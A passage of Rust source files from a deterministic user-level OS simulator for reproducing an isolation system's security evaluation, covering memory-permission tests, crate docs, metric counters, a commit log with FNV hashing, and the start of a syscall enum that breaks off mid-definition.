        assert_eq!(asp.write(code, b"\x90"), Err(FaultKind::Protection));
    }

    #[test]
    fn unmap_removes_pages() {
        let mut asp = AddressSpace::new();
        let a = asp.alloc(2 * PAGE_SIZE, Perms::RW);
        asp.unmap(a, PAGE_SIZE);
        assert!(!asp.is_mapped(a, 1));
        assert!(asp.is_mapped(a.offset(PAGE_SIZE), 1));
    }

    #[test]
    fn perms_display_and_predicates() {
        assert_eq!(Perms::RW.to_string(), "rw-");
        assert_eq!(Perms::RX.to_string(), "r-x");
        assert_eq!(Perms::NONE.to_string(), "---");
        assert!(Perms::RWX.allows(Perms::RW));
        assert!(!Perms::R.allows(Perms::W));
        assert_eq!(Perms::R.union(Perms::X), Perms::RX);
    }

    #[test]
    fn zero_length_read_of_mapped_page_ok() {
        let mut asp = AddressSpace::new();
        let a = asp.alloc(8, Perms::RW);
        assert_eq!(asp.read(a, 0).unwrap(), Vec::<u8>::new());
    }
}
