//! # freepart-simos — deterministic user-level OS substrate
//!
//! FreePart's security argument rests on four kernel-enforced mechanisms:
//! per-process address spaces, page-granularity memory permissions
//! (`mprotect`), syscall mediation with seccomp-BPF-style allowlists, and
//! shared-memory IPC. The published system uses the real Linux kernel for
//! all four; this crate provides a faithful, deterministic, user-level
//! simulation of exactly that surface so the rest of the reproduction can
//! run anywhere, single-threaded, and with reproducible cost accounting.
//!
//! The centre of the crate is [`Kernel`]. Everything a "process" does —
//! allocating memory, reading or writing bytes, issuing a syscall, sending
//! an IPC message — goes through the kernel, which checks the calling
//! process's page permissions and syscall filter the same way Linux would,
//! and charges virtual time to a global [`cost::CostModel`]-driven clock.
//!
//! ## Example
//!
//! ```
//! use freepart_simos::{Kernel, Perms, Syscall};
//!
//! let mut k = Kernel::new();
//! let pid = k.spawn("host");
//! let addr = k.alloc(pid, 4096, Perms::RW).unwrap();
//! k.mem_write(pid, addr, b"hello").unwrap();
//! assert_eq!(k.mem_read(pid, addr, 5).unwrap(), b"hello");
//!
//! // Make the page read-only; further writes fault.
//! k.syscall(pid, Syscall::Mprotect { addr, len: 4096, perms: Perms::R }).unwrap();
//! assert!(k.mem_write(pid, addr, b"x").is_err());
//! ```
//!
//! ## Determinism
//!
//! No wall-clock time, no OS threads, no real file descriptors. All
//! "time" is virtual nanoseconds advanced by the cost model; all
//! randomness comes from seeded [`rand`] generators owned by the caller.
//!
//! ## Architecture: pure core, thin shell
//!
//! The kernel is a pure state machine. [`core::KernelState`] owns every
//! piece of kernel state as plain data, and a single total function
//! [`core::step`] performs every transition, describing its observable
//! consequences as [`core::Effect`]s instead of performing them.
//! [`Kernel`] is a thin shell over that core: it translates ~40 public
//! entry points into [`CommitOp`]s, folds them through `step`, and
//! interprets the effects (commit-log recording, in particular).
//! [`replay`] is the same fold without a shell — which is why replay
//! cannot drift from live execution.

#![forbid(unsafe_code)]
#![warn(missing_docs)]

pub mod commit;
pub mod core;
pub mod cost;
pub mod device;
pub mod error;
pub mod filter;
pub mod fs;
pub mod ipc;
pub mod kernel;
pub mod mem;
pub mod metrics;
pub mod process;
pub mod replay;
pub mod sched;
pub mod shm;
pub mod syscall;

pub use crate::core::{Counter, Effect, Effects, KernelState, StepValue};
pub use commit::{CommitLog, CommitOp, CommitOutcome, CommitRecord};
pub use cost::{CostModel, VirtualClock};
pub use device::{Camera, DeviceKind, Display, NetworkLog, WindowId};
pub use error::{Errno, Fault, FaultKind, SimError, SimResult};
pub use filter::{FdRule, FilterDecision, SyscallFilter};
pub use fs::SimFs;
pub use ipc::{ChannelEnd, ChannelId};
pub use kernel::{Kernel, TimelineMode};
pub use mem::{Addr, AddressSpace, Perms, PAGE_SIZE};
pub use metrics::Metrics;
pub use process::{Pid, ProcessState, SimProcess};
pub use replay::{replay, Divergence, DivergenceKind, InvariantViolation, ReplayReport};
pub use sched::{DrrScheduler, PoolId, TenantKey};
pub use shm::{ShmId, ShmSegment};
pub use syscall::{Fd, Syscall, SyscallNo, SyscallRet};
