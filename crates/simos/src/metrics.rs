//! Kernel-level counters the evaluation harness reads.
//!
//! Table 9 reports `#IPC`, bytes transferred, and runtime per isolation
//! scheme; Table 12 reports copy-operation counts; Fig. 13 reports
//! normalized runtimes. All of those derive from these counters plus the
//! virtual clock.

/// Monotone counters over one simulation run.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct Metrics {
    /// IPC messages delivered (each direction counts once).
    pub ipc_messages: u64,
    /// Payload bytes moved through IPC channels.
    pub ipc_bytes: u64,
    /// Bytes deep-copied between address spaces outside channels
    /// (object marshalling).
    pub copied_bytes: u64,
    /// Individual copy operations (lazy + eager), for Table 12.
    pub copy_ops: u64,
    /// Syscalls that reached dispatch (allowed by filters).
    pub syscalls: u64,
    /// Syscalls killed by a filter.
    pub filter_kills: u64,
    /// Memory-access faults delivered.
    pub faults: u64,
    /// Processes spawned.
    pub spawns: u64,
    /// `mprotect` page transitions applied.
    pub protected_pages: u64,
    /// Happens-before merges that actually advanced a receiver's
    /// timeline (per-process virtual time only; 0 under the global
    /// clock).
    pub timeline_merges: u64,
    /// Shared-memory grants issued (a `(segment, pid)` permission entry
    /// created or re-created).
    pub shm_grants: u64,
    /// Shared-memory grants revoked (the temporal-permission teardown at
    /// framework-state transitions).
    pub shm_revokes: u64,
    /// Cumulative bytes made accessible by page-mapping a segment into a
    /// process (the zero-copy counterpart of `copied_bytes`).
    pub shm_mapped_bytes: u64,
    /// Hooked calls that travelled inside a batched IPC frame. `ipc_messages`
    /// keeps counting *frames*, so `calls_batched / frames` shows the
    /// amortization honestly instead of hiding the calls.
    pub calls_batched: u64,
    /// Payload bytes actually copied by `take_snapshot` (dirty objects).
    pub snapshot_bytes_copied: u64,
    /// Stateful objects a snapshot round proved clean via write epochs
    /// and reused prior bytes for, copying nothing.
    pub snapshot_objects_skipped: u64,
    /// Dead processes reaped: address space freed, shm grant/map entries
    /// purged.
    pub reaps: u64,
}

impl Metrics {
    /// A zeroed counter set.
    pub fn new() -> Metrics {
        Metrics::default()
    }

    /// Difference `self - earlier`, for windowed measurements.
    ///
    /// # Panics
    ///
    /// Panics in debug builds if `earlier` is not actually earlier
    /// (counters are monotone).
    pub fn since(&self, earlier: &Metrics) -> Metrics {
        debug_assert!(self.ipc_messages >= earlier.ipc_messages);
        debug_assert!(self.ipc_bytes >= earlier.ipc_bytes);
        debug_assert!(self.copied_bytes >= earlier.copied_bytes);
        debug_assert!(self.copy_ops >= earlier.copy_ops);
        debug_assert!(self.syscalls >= earlier.syscalls);
        debug_assert!(self.filter_kills >= earlier.filter_kills);
        debug_assert!(self.faults >= earlier.faults);
        debug_assert!(self.spawns >= earlier.spawns);
        debug_assert!(self.protected_pages >= earlier.protected_pages);
        debug_assert!(self.timeline_merges >= earlier.timeline_merges);
        debug_assert!(self.shm_grants >= earlier.shm_grants);
        debug_assert!(self.shm_revokes >= earlier.shm_revokes);
        debug_assert!(self.shm_mapped_bytes >= earlier.shm_mapped_bytes);
        debug_assert!(self.calls_batched >= earlier.calls_batched);
        debug_assert!(self.snapshot_bytes_copied >= earlier.snapshot_bytes_copied);
        debug_assert!(self.snapshot_objects_skipped >= earlier.snapshot_objects_skipped);
        debug_assert!(self.reaps >= earlier.reaps);
        Metrics {
            ipc_messages: self.ipc_messages - earlier.ipc_messages,
            ipc_bytes: self.ipc_bytes - earlier.ipc_bytes,
            copied_bytes: self.copied_bytes - earlier.copied_bytes,
            copy_ops: self.copy_ops - earlier.copy_ops,
            syscalls: self.syscalls - earlier.syscalls,
            filter_kills: self.filter_kills - earlier.filter_kills,
            faults: self.faults - earlier.faults,
            spawns: self.spawns - earlier.spawns,
            protected_pages: self.protected_pages - earlier.protected_pages,
            timeline_merges: self.timeline_merges - earlier.timeline_merges,
            shm_grants: self.shm_grants - earlier.shm_grants,
            shm_revokes: self.shm_revokes - earlier.shm_revokes,
            shm_mapped_bytes: self.shm_mapped_bytes - earlier.shm_mapped_bytes,
            calls_batched: self.calls_batched - earlier.calls_batched,
            snapshot_bytes_copied: self.snapshot_bytes_copied - earlier.snapshot_bytes_copied,
            snapshot_objects_skipped: self.snapshot_objects_skipped
                - earlier.snapshot_objects_skipped,
            reaps: self.reaps - earlier.reaps,
        }
    }

    /// Total bytes that crossed a process boundary.
    pub fn total_transfer_bytes(&self) -> u64 {
        self.ipc_bytes + self.copied_bytes
    }

    /// Digest over every counter, for the kernel state digest.
    pub fn fingerprint(&self) -> u64 {
        let fields = [
            self.ipc_messages,
            self.ipc_bytes,
            self.copied_bytes,
            self.copy_ops,
            self.syscalls,
            self.filter_kills,
            self.faults,
            self.spawns,
            self.protected_pages,
            self.timeline_merges,
            self.shm_grants,
            self.shm_revokes,
            self.shm_mapped_bytes,
            self.calls_batched,
            self.snapshot_bytes_copied,
            self.snapshot_objects_skipped,
            self.reaps,
        ];
        fields.iter().fold(crate::commit::FINGERPRINT_SEED, |h, v| {
            crate::commit::mix(h, *v)
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn since_subtracts_fieldwise() {
        let early = Metrics {
            ipc_messages: 2,
            ipc_bytes: 100,
            ..Metrics::new()
        };
        let late = Metrics {
            ipc_messages: 5,
            ipc_bytes: 350,
            syscalls: 7,
            ..Metrics::new()
        };
        let d = late.since(&early);
        assert_eq!(d.ipc_messages, 3);
        assert_eq!(d.ipc_bytes, 250);
        assert_eq!(d.syscalls, 7);
    }

    #[test]
    #[should_panic(expected = "protected_pages")]
    #[cfg(debug_assertions)]
    fn since_rejects_non_monotone_windows() {
        let early = Metrics {
            protected_pages: 9,
            ..Metrics::new()
        };
        // Every field except the one that regressed is monotone: only the
        // widened assertions catch this.
        let late = Metrics {
            ipc_messages: 5,
            protected_pages: 3,
            ..Metrics::new()
        };
        let _ = late.since(&early);
    }

    #[test]
    #[should_panic(expected = "shm_grants")]
    #[cfg(debug_assertions)]
    fn since_rejects_non_monotone_shm_counters() {
        let early = Metrics {
            shm_grants: 4,
            ..Metrics::new()
        };
        let late = Metrics {
            shm_grants: 1,
            shm_revokes: 2,
            shm_mapped_bytes: 4096,
            ..Metrics::new()
        };
        let _ = late.since(&early);
    }

    #[test]
    #[should_panic(expected = "calls_batched")]
    #[cfg(debug_assertions)]
    fn since_rejects_non_monotone_batched_calls() {
        let early = Metrics {
            calls_batched: 8,
            ..Metrics::new()
        };
        let late = Metrics {
            ipc_messages: 3,
            calls_batched: 2,
            ..Metrics::new()
        };
        let _ = late.since(&early);
    }

    #[test]
    #[should_panic(expected = "snapshot_bytes_copied")]
    #[cfg(debug_assertions)]
    fn since_rejects_non_monotone_snapshot_counters() {
        let early = Metrics {
            snapshot_bytes_copied: 4096,
            ..Metrics::new()
        };
        let late = Metrics {
            snapshot_bytes_copied: 64,
            snapshot_objects_skipped: 3,
            reaps: 1,
            ..Metrics::new()
        };
        let _ = late.since(&early);
    }

    #[test]
    fn total_transfer_combines_channels_and_copies() {
        let m = Metrics {
            ipc_bytes: 10,
            copied_bytes: 32,
            ..Metrics::new()
        };
        assert_eq!(m.total_transfer_bytes(), 42);
    }
}
