//! The kernel flight recorder: an append-only commit log of every
//! state-mutating kernel transition.
//!
//! When recording is enabled (see [`Kernel::enable_commit_log`]), every
//! public kernel entry point that can change kernel state appends one
//! [`CommitRecord`] describing the operation ([`CommitOp`]), a compact
//! summary of its result ([`CommitOutcome`]), and the kernel's
//! [state digest](crate::KernelState::digest) *after* the operation
//! applied. Pure reads record nothing; a read that faults surfaces as the
//! [`CommitOp::DeliverFault`] transition it really is.
//!
//! The log is the ground truth for [`replay`](crate::replay): folding the
//! ops through the pure [`step`](crate::core::step) over a fresh
//! [`KernelState`](crate::KernelState) built from the same [`CostModel`]
//! must reproduce every outcome summary and every digest, bit for bit. It
//! is also the substrate for whole-trace invariant auditing and forensic
//! walks — see [`crate::replay`] and the `freepart-core` forensics layer.
//!
//! [`Kernel::enable_commit_log`]: crate::Kernel::enable_commit_log
//! [`CostModel`]: crate::CostModel

use crate::cost::CostModel;
use crate::error::{Fault, FaultKind, SimError};
use crate::ipc::ChannelId;
use crate::mem::{Addr, Perms};
use crate::process::Pid;
use crate::shm::ShmId;
use crate::syscall::{Syscall, SyscallRet};
use crate::{SyscallFilter, WindowId};

const FNV_OFFSET: u64 = 0xcbf2_9ce4_8422_2325;
const FNV_PRIME: u64 = 0x0000_0100_0000_01b3;

/// Folds one `u64` into a running FNV-1a hash.
pub fn mix(h: u64, v: u64) -> u64 {
    let mut h = h;
    for b in v.to_le_bytes() {
        h = (h ^ u64::from(b)).wrapping_mul(FNV_PRIME);
    }
    h
}

/// Folds a byte slice into a running FNV-1a hash (length-prefixed, so
/// adjacent fields cannot alias).
pub fn fold_bytes(h: u64, bytes: &[u8]) -> u64 {
    let mut h = mix(h, bytes.len() as u64);
    for &b in bytes {
        h = (h ^ u64::from(b)).wrapping_mul(FNV_PRIME);
    }
    h
}

/// FNV-1a hash of a byte slice from the standard offset basis.
pub fn hash_bytes(bytes: &[u8]) -> u64 {
    fold_bytes(FNV_OFFSET, bytes)
}

/// FNV-1a hash of a string from the standard offset basis.
pub fn hash_str(s: &str) -> u64 {
    hash_bytes(s.as_bytes())
}

/// The fresh-fingerprint seed shared by all incrementally-fingerprinted
/// kernel structures ([`AddressSpace`], segments, the file system, ring
/// channels, the network log).
///
/// [`AddressSpace`]: crate::AddressSpace
pub const FINGERPRINT_SEED: u64 = FNV_OFFSET;

/// One state-mutating kernel transition, with enough payload to re-apply
/// it against a fresh kernel.
#[derive(Debug, Clone, PartialEq)]
#[allow(missing_docs)]
pub enum CommitOp {
    /// A process was spawned.
    Spawn { name: String },
    /// A fatal fault was delivered directly (crash injection, or a fault
    /// raised by an otherwise pure read such as `mem_read`/`shm_read`).
    DeliverFault {
        pid: Pid,
        kind: FaultKind,
        addr: Option<Addr>,
    },
    /// A dead process was reaped.
    Reap { pid: Pid },
    /// Harness-level memory allocation.
    Alloc { pid: Pid, len: u64, perms: Perms },
    /// Bytes written into a process address space.
    MemWrite {
        pid: Pid,
        addr: Addr,
        bytes: Vec<u8>,
    },
    /// Harness-level protection change.
    Protect {
        pid: Pid,
        addr: Addr,
        len: u64,
        perms: Perms,
    },
    /// Shared-memory segment creation (payload adopted, owner granted RW).
    ShmCreate { owner: Pid, bytes: Vec<u8> },
    /// A `(segment, pid)` grant was issued or replaced.
    ShmGrant { id: ShmId, pid: Pid, perms: Perms },
    /// A segment was page-mapped into a view.
    ShmMap { pid: Pid, id: ShmId },
    /// A `(segment, pid)` grant and mapping were revoked.
    ShmRevoke { id: ShmId, pid: Pid },
    /// Every grant on a segment was moved to `perms`.
    ShmProtectAll { id: ShmId, perms: Perms },
    /// A segment payload was replaced.
    ShmWrite { pid: Pid, id: ShmId, bytes: Vec<u8> },
    /// A segment was destroyed.
    ShmDestroy { id: ShmId },
    /// A seccomp-style filter was installed (or the attempt was refused).
    InstallFilter { pid: Pid, filter: SyscallFilter },
    /// One syscall, filter check included.
    Syscall { pid: Pid, call: Syscall },
    /// An IPC ring channel was created.
    CreateChannel { a: Pid, b: Pid, capacity: usize },
    /// A frame was sent.
    IpcSend {
        pid: Pid,
        chan: ChannelId,
        payload: Vec<u8>,
    },
    /// A receive attempt (mutates the ring and the receiver timeline).
    IpcRecv { pid: Pid, chan: ChannelId },
    /// A channel's B endpoint was re-bound after a restart.
    RebindChannel { chan: ChannelId, new_b: Pid },
    /// Raw virtual-time charge.
    ChargeTime { ns: u64 },
    /// Cross-address-space deep copy accounting.
    ChargeCopy { bytes: u64 },
    /// Framework compute charge.
    ChargeCompute { pid: Pid, units: u64 },
    /// Batched hooked-call accounting.
    NoteCallsBatched { n: u64 },
    /// Snapshot payload-copy accounting.
    NoteSnapshotCopy { bytes: u64 },
    /// Snapshot clean-skip accounting.
    NoteSnapshotSkip,
    /// The kernel switched to per-process virtual timelines.
    EnablePerProcessTime,
    /// The pid-less-cost time context changed.
    SetTimeContext { pid: Option<Pid> },
    /// A timeline was advanced by a happens-before merge.
    AdvanceTimeline { pid: Pid, ns: u64 },
    /// Clock and counters were reset between measurements.
    ResetAccounting,
    /// Harness-level file seeding (`Kernel::fs_put`).
    FsPut { path: String, bytes: Vec<u8> },
    /// A deterministic camera was attached.
    AttachCamera { seed: u64, frame_len: usize },
    /// The runtime sealed a process (`PR_SET_NO_NEW_PRIVS` from outside).
    SetNoNewPrivs { pid: Pid },
    /// The supervisor force-exited a process before reaping it.
    ForceExit { pid: Pid, code: i32 },
    /// A GUI window was created.
    WinCreate { title: String },
    /// A frame was presented to a window.
    WinPresent { win: WindowId, frame_len: usize },
    /// Every GUI window was destroyed.
    WinDestroyAll,
    /// One key press was polled off the input queue.
    WinPollKey,
    /// A synthetic key press was queued.
    PushKey { key: u8 },
}

impl CommitOp {
    /// Short stable name of the operation, for reports and forensics.
    pub fn name(&self) -> &'static str {
        use CommitOp as O;
        match self {
            O::Spawn { .. } => "spawn",
            O::DeliverFault { .. } => "deliver_fault",
            O::Reap { .. } => "reap",
            O::Alloc { .. } => "alloc",
            O::MemWrite { .. } => "mem_write",
            O::Protect { .. } => "protect",
            O::ShmCreate { .. } => "shm_create",
            O::ShmGrant { .. } => "shm_grant",
            O::ShmMap { .. } => "shm_map",
            O::ShmRevoke { .. } => "shm_revoke",
            O::ShmProtectAll { .. } => "shm_protect_all",
            O::ShmWrite { .. } => "shm_write",
            O::ShmDestroy { .. } => "shm_destroy",
            O::InstallFilter { .. } => "install_filter",
            O::Syscall { .. } => "syscall",
            O::CreateChannel { .. } => "create_channel",
            O::IpcSend { .. } => "ipc_send",
            O::IpcRecv { .. } => "ipc_recv",
            O::RebindChannel { .. } => "rebind_channel",
            O::ChargeTime { .. } => "charge_time",
            O::ChargeCopy { .. } => "charge_copy",
            O::ChargeCompute { .. } => "charge_compute",
            O::NoteCallsBatched { .. } => "note_calls_batched",
            O::NoteSnapshotCopy { .. } => "note_snapshot_copy",
            O::NoteSnapshotSkip => "note_snapshot_skip",
            O::EnablePerProcessTime => "enable_per_process_time",
            O::SetTimeContext { .. } => "set_time_context",
            O::AdvanceTimeline { .. } => "advance_timeline",
            O::ResetAccounting => "reset_accounting",
            O::FsPut { .. } => "fs_put",
            O::AttachCamera { .. } => "attach_camera",
            O::SetNoNewPrivs { .. } => "set_no_new_privs",
            O::ForceExit { .. } => "force_exit",
            O::WinCreate { .. } => "win_create",
            O::WinPresent { .. } => "win_present",
            O::WinDestroyAll => "win_destroy_all",
            O::WinPollKey => "win_poll_key",
            O::PushKey { .. } => "push_key",
        }
    }

    /// The process the operation acts on behalf of, when one exists.
    pub fn acting_pid(&self) -> Option<Pid> {
        use CommitOp as O;
        match self {
            O::DeliverFault { pid, .. }
            | O::Reap { pid }
            | O::Alloc { pid, .. }
            | O::MemWrite { pid, .. }
            | O::Protect { pid, .. }
            | O::ShmGrant { pid, .. }
            | O::ShmMap { pid, .. }
            | O::ShmRevoke { pid, .. }
            | O::ShmWrite { pid, .. }
            | O::InstallFilter { pid, .. }
            | O::Syscall { pid, .. }
            | O::IpcSend { pid, .. }
            | O::IpcRecv { pid, .. }
            | O::ChargeCompute { pid, .. }
            | O::AdvanceTimeline { pid, .. }
            | O::SetNoNewPrivs { pid }
            | O::ForceExit { pid, .. } => Some(*pid),
            O::ShmCreate { owner, .. } => Some(*owner),
            _ => None,
        }
    }
}

/// Compact summary of an operation's result: a per-site `u64` digest of
/// the success value, or of the error.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum CommitOutcome {
    /// The operation succeeded; the payload summarizes its return value.
    Ok(u64),
    /// The operation failed; the payload summarizes the error.
    Err(u64),
}

impl CommitOutcome {
    /// True for the `Ok` variant.
    pub fn is_ok(&self) -> bool {
        matches!(self, CommitOutcome::Ok(_))
    }

    /// The raw summary payload, whichever variant.
    pub fn raw(&self) -> u64 {
        match self {
            CommitOutcome::Ok(v) | CommitOutcome::Err(v) => *v,
        }
    }
}

/// Types that can summarize themselves into a commit-outcome word.
///
/// Summaries of plain identifiers are transparent (the id itself), so the
/// invariant auditor can read grant/page arithmetic straight off the log;
/// structured values hash.
pub trait OpSummary {
    /// The `u64` summary recorded in the log.
    fn summary(&self) -> u64;
}

impl OpSummary for () {
    fn summary(&self) -> u64 {
        0
    }
}

impl OpSummary for u64 {
    fn summary(&self) -> u64 {
        *self
    }
}

impl OpSummary for bool {
    fn summary(&self) -> u64 {
        u64::from(*self)
    }
}

impl OpSummary for Pid {
    fn summary(&self) -> u64 {
        u64::from(self.0)
    }
}

impl OpSummary for Addr {
    fn summary(&self) -> u64 {
        self.0
    }
}

impl OpSummary for ShmId {
    fn summary(&self) -> u64 {
        self.0
    }
}

impl OpSummary for ChannelId {
    fn summary(&self) -> u64 {
        u64::from(self.0)
    }
}

impl OpSummary for WindowId {
    fn summary(&self) -> u64 {
        u64::from(self.0)
    }
}

impl OpSummary for Fault {
    fn summary(&self) -> u64 {
        hash_str(&format!("{self:?}"))
    }
}

impl OpSummary for Vec<u8> {
    fn summary(&self) -> u64 {
        hash_bytes(self)
    }
}

impl OpSummary for Option<Vec<u8>> {
    fn summary(&self) -> u64 {
        match self {
            None => 0,
            Some(b) => mix(1, hash_bytes(b)),
        }
    }
}

impl OpSummary for Option<Pid> {
    fn summary(&self) -> u64 {
        match self {
            None => 0,
            Some(p) => mix(1, u64::from(p.0)),
        }
    }
}

impl OpSummary for Option<u8> {
    fn summary(&self) -> u64 {
        match self {
            None => 0,
            Some(k) => mix(1, u64::from(*k)),
        }
    }
}

impl OpSummary for SyscallRet {
    fn summary(&self) -> u64 {
        match self {
            SyscallRet::Ok => 1,
            SyscallRet::NewFd(fd) => mix(2, u64::from(fd.0)),
            SyscallRet::Bytes(b) => mix(3, hash_bytes(b)),
            SyscallRet::Num(n) => mix(4, *n),
            SyscallRet::Mapped(a) => mix(5, a.0),
        }
    }
}

/// Summary of a kernel error (hash of its debug rendering — errors carry
/// structure but never kernel state, so the rendering is stable).
pub fn err_summary(e: &SimError) -> u64 {
    hash_str(&format!("{e:?}"))
}

/// Summarizes a kernel result into a [`CommitOutcome`] — the single
/// function both the recorder and the replayer use, so their summaries
/// cannot drift apart.
pub fn outcome_of<T: OpSummary>(r: &Result<T, SimError>) -> CommitOutcome {
    match r {
        Ok(v) => CommitOutcome::Ok(v.summary()),
        Err(e) => CommitOutcome::Err(err_summary(e)),
    }
}

/// One appended transition: the op, its outcome summary, and the kernel
/// state digest immediately after it applied.
#[derive(Debug, Clone, PartialEq)]
pub struct CommitRecord {
    /// Zero-based position in the log.
    pub index: u64,
    /// The transition.
    pub op: CommitOp,
    /// Result summary.
    pub outcome: CommitOutcome,
    /// Kernel [state digest](crate::KernelState::digest) after the op.
    pub digest: u64,
}

/// The append-only commit log: a genesis cost model plus the record
/// sequence. A log plus [`crate::replay::replay`] fully determines a
/// kernel state.
#[derive(Debug, Clone)]
pub struct CommitLog {
    genesis: CostModel,
    records: Vec<CommitRecord>,
}

impl CommitLog {
    /// An empty log whose replays start from `Kernel::with_cost_model`.
    pub fn new(genesis: CostModel) -> CommitLog {
        CommitLog {
            genesis,
            records: Vec::new(),
        }
    }

    /// Reassembles a log from parts (tamper-injection in tests, or logs
    /// deserialized from external storage). Indices are renumbered.
    pub fn from_parts(genesis: CostModel, records: Vec<CommitRecord>) -> CommitLog {
        let mut log = CommitLog { genesis, records };
        for (i, r) in log.records.iter_mut().enumerate() {
            r.index = i as u64;
        }
        log
    }

    /// The cost model replays must start from.
    pub fn genesis(&self) -> &CostModel {
        &self.genesis
    }

    /// Number of records.
    pub fn len(&self) -> u64 {
        self.records.len() as u64
    }

    /// True when nothing has been recorded.
    pub fn is_empty(&self) -> bool {
        self.records.is_empty()
    }

    /// The full record sequence.
    pub fn records(&self) -> &[CommitRecord] {
        &self.records
    }

    pub(crate) fn push(&mut self, op: CommitOp, outcome: CommitOutcome, digest: u64) {
        let index = self.records.len() as u64;
        self.records.push(CommitRecord {
            index,
            op,
            outcome,
            digest,
        });
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn mix_and_fold_are_order_sensitive() {
        assert_ne!(
            mix(mix(FINGERPRINT_SEED, 1), 2),
            mix(mix(FINGERPRINT_SEED, 2), 1)
        );
        assert_ne!(hash_bytes(b"ab"), hash_bytes(b"ba"));
        // Length prefixing keeps adjacent fields from aliasing.
        assert_ne!(
            fold_bytes(fold_bytes(0, b"a"), b"bc"),
            fold_bytes(fold_bytes(0, b"ab"), b"c"),
        );
    }

    #[test]
    fn outcome_summaries_distinguish_results() {
        let ok: Result<u64, SimError> = Ok(7);
        let err: Result<u64, SimError> = Err(SimError::BadChannel);
        assert_eq!(outcome_of(&ok), CommitOutcome::Ok(7));
        assert!(!outcome_of(&err).is_ok());
        assert_ne!(
            SyscallRet::Num(3).summary(),
            SyscallRet::NewFd(crate::Fd(3)).summary()
        );
    }

    #[test]
    fn from_parts_renumbers_indices() {
        let rec = CommitRecord {
            index: 99,
            op: CommitOp::NoteSnapshotSkip,
            outcome: CommitOutcome::Ok(0),
            digest: 0,
        };
        let log = CommitLog::from_parts(CostModel::default(), vec![rec.clone(), rec]);
        assert_eq!(log.records()[0].index, 0);
        assert_eq!(log.records()[1].index, 1);
        assert_eq!(log.len(), 2);
        assert!(!log.is_empty());
    }
}
