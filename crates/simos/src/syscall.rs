//! The simulated syscall surface.
//!
//! [`Syscall`] is the request a process hands the kernel; [`SyscallNo`] is
//! the filterable identity of that request (what a seccomp-BPF program
//! matches on); [`SyscallRet`] is the kernel's answer.
//!
//! The set mirrors the syscalls the paper's tables name (Fig. 12,
//! Table 7): file I/O for loading/storing agents, GUI/socket traffic for
//! visualizing agents, memory management for processing agents, plus the
//! security-critical calls (`mprotect`, `connect`, `fork`, `seccomp`)
//! whose restriction the evaluation leans on.

use crate::mem::{Addr, Perms};
use std::fmt;

/// A simulated file descriptor (per-process index).
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub struct Fd(pub u32);

impl fmt::Display for Fd {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "fd{}", self.0)
    }
}

macro_rules! syscall_numbers {
    ($($(#[$doc:meta])* $name:ident => $lit:literal),+ $(,)?) => {
        /// Filterable syscall identity, one variant per kernel entry point.
        #[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
        #[allow(missing_docs)]
        pub enum SyscallNo {
            $($(#[$doc])* $name),+
        }

        impl SyscallNo {
            /// Every syscall number, in declaration order.
            pub const ALL: &'static [SyscallNo] = &[$(SyscallNo::$name),+];

            /// Lower-case Linux-style name (`openat`, `mprotect`, ...).
            pub fn name(self) -> &'static str {
                match self {
                    $(SyscallNo::$name => $lit),+
                }
            }
        }
    };
}

syscall_numbers! {
    // -------- file I/O (data loading / storing agents) --------
    Openat => "openat", Close => "close", Read => "read", Write => "write",
    Lseek => "lseek", Fstat => "fstat", Lstat => "lstat", Stat => "stat",
    Getdents => "getdents", Mkdir => "mkdir", Unlink => "unlink",
    Rename => "rename", Access => "access", Umask => "umask", Dup => "dup",
    Fcntl => "fcntl",
    // -------- memory management --------
    Brk => "brk", Mmap => "mmap", Munmap => "munmap", Mprotect => "mprotect",
    // -------- process control --------
    Fork => "fork", Execve => "execve", Exit => "exit", Kill => "kill",
    Getpid => "getpid", Getuid => "getuid", Getcwd => "getcwd",
    Uname => "uname", SchedYield => "sched_yield", Nanosleep => "nanosleep",
    Prctl => "prctl", Seccomp => "seccomp",
    // -------- devices / event loops --------
    Ioctl => "ioctl", Select => "select", Poll => "poll",
    Eventfd2 => "eventfd2",
    // -------- sockets (visualizing agents talk to the GUI subsystem) ----
    Socket => "socket", Connect => "connect", Bind => "bind",
    Listen => "listen", Accept => "accept", Send => "send",
    Sendto => "sendto", Recvfrom => "recvfrom",
    // -------- sync & shared memory (FreePart's own IPC) --------
    Futex => "futex", ShmOpen => "shm_open", ShmUnlink => "shm_unlink",
    // -------- misc --------
    Getrandom => "getrandom", Gettimeofday => "gettimeofday",
    ClockGettime => "clock_gettime",
}

/// A syscall request with its arguments.
///
/// Only arguments that affect simulated semantics or filtering are
/// modeled; everything else is abstracted away.
#[derive(Debug, Clone, PartialEq, Eq)]
#[allow(missing_docs)]
pub enum Syscall {
    // ---- file I/O ----
    /// Open a path; returns `SyscallRet::NewFd`.
    Openat {
        path: String,
        create: bool,
    },
    Close {
        fd: Fd,
    },
    /// Read up to `len` bytes from `fd` at its cursor.
    Read {
        fd: Fd,
        len: u64,
    },
    /// Append/overwrite bytes at the fd cursor.
    Write {
        fd: Fd,
        bytes: Vec<u8>,
    },
    Lseek {
        fd: Fd,
        pos: u64,
    },
    Fstat {
        fd: Fd,
    },
    Lstat {
        path: String,
    },
    Stat {
        path: String,
    },
    Getdents {
        path: String,
    },
    Mkdir {
        path: String,
    },
    Unlink {
        path: String,
    },
    Rename {
        from: String,
        to: String,
    },
    Access {
        path: String,
    },
    Umask {
        mask: u32,
    },
    Dup {
        fd: Fd,
    },
    Fcntl {
        fd: Fd,
    },

    // ---- memory ----
    Brk {
        grow: u64,
    },
    Mmap {
        len: u64,
        perms: Perms,
    },
    Munmap {
        addr: Addr,
        len: u64,
    },
    /// Change page protection — the call code-rewriting payloads need.
    Mprotect {
        addr: Addr,
        len: u64,
        perms: Perms,
    },

    // ---- process ----
    Fork,
    Execve {
        path: String,
    },
    Exit {
        code: i32,
    },
    Kill {
        target_pid: u32,
    },
    Getpid,
    Getuid,
    Getcwd,
    Uname,
    SchedYield,
    Nanosleep {
        ns: u64,
    },
    /// `prctl(PR_SET_NO_NEW_PRIVS)` — locks the filter configuration.
    PrctlNoNewPrivs,
    /// Install a seccomp filter program (modeled separately by the kernel;
